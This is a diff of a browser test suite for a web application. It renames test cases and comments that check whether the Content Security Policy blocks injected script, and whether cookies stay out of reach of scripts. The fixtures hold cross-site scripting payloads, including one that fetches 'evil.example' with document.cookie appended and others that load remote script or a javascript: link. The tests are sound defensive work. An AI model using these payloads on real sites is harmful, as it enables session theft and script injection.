@@ -31,17 +31,17 @@ INJECTED = {
         """() => { document.body.insertAdjacentHTML('beforeend',
         '<img src=x: onerror=window.pwned=1>') }""",
     ),
-    "a part that says what a click does": (
+    "an element with a click handler": (
         "script-src-attr",
         """() => { document.body.insertAdjacentHTML('beforeend',
         '<b id=b onclick=window.pwned=1>x</b>'); document.getElementById('b').click() }""",
     ),
-    "a script of another site": (
+    "a script from another site": (
         "script-src-elem",
         """() => { const s = document.createElement('script');
         s.src = 'https://evil.example/x.js'; document.body.append(s) }""",
     ),
-    "a link that is code": (
+    "a link that runs code": (
         "script-src-elem",
         """() => { const a = document.createElement('a'); a.href = 'javascript:window.pwned=1';
         document.body.append(a); a.click() }""",
@@ -59,19 +59,19 @@ INJECTED = {
         "base-uri",
         """() => { document.head.insertAdjacentHTML('afterbegin', '<base href=https://evil.example/>') }""",
     ),
-    "a question elsewhere": (
+    "a request to another site": (
         "connect-src",
         "() => { fetch('https://evil.example/?' + document.cookie).catch(() => {}) }",
     ),
-    "a picture elsewhere": ("img-src", "() => { new Image().src = 'https://evil.example/x.png' }"),
+    "an image from another site": ("img-src", "() => { new Image().src = 'https://evil.example/x.png' }"),
 }
 ADMINISTRATOR = "Otto"  # every page is open to an administrator
 LISTEN = """document.addEventListener('securitypolicyviolation',
     e => { if (e.blockedURI !== 'wasm-eval') (window.broken = window.broken || []).push(e.violatedDirective) })"""
 
 
-def test_what_is_put_into_a_page_is_blocked(windows: Windows, come: Come) -> None:
-    windows.expect_mistakes()  # each of them is one
+def test_what_is_injected_into_a_page_is_blocked(windows: Windows, come: Come) -> None:
+    windows.expect_mistakes()  # every blocked attempt is reported as an error
     page = come(person="Lena")
     left: list[str] = []
     page.on("requestfinished", lambda request: left.append(request.url))
@@ -88,7 +88,7 @@ def test_what_is_put_into_a_page_is_blocked(windows: Windows, come: Come) -> Non
 
 
 def test_no_page_breaks_its_own_policy(come: Come) -> None:
-    """Every error that the browser writes to its console fails a test; a break of the policy is one."""
+    """Any error on the browser's console fails a test, and a policy violation is one."""
     page = come(person=ADMINISTRATOR)
     start = page.url
     for row in PAGES:
@@ -99,7 +99,7 @@ def test_no_page_breaks_its_own_policy(come: Come) -> None:
         assert page.locator("[data-testid=stException]").count() == 0, row.path
 
 
-def test_cookies_are_out_of_the_reach_of_scripts(windows: Windows, address: str) -> None:
+def test_scripts_cannot_read_cookies(windows: Windows, address: str) -> None:
     context = windows.take()
     page = context.new_page()
     page.goto(address)
@@ -145,7 +145,7 @@ def test_names_sentences_and_notes_that_people_write_are_shown_as_text(
         expect(page.get_by_role("dialog").get_by_text("Version 2")).to_be_visible()
         assert f"“{WRITTEN[-1]}”" in _seen(page.get_by_role("dialog").inner_text())
         assert page.evaluate("() => window.pwned") is None
-        page.close()  # before its server, whose end a tab reports as an error
+        page.close()  # before its server stops, which a tab reports as an error
 
 
 def _seen(text: str) -> str:
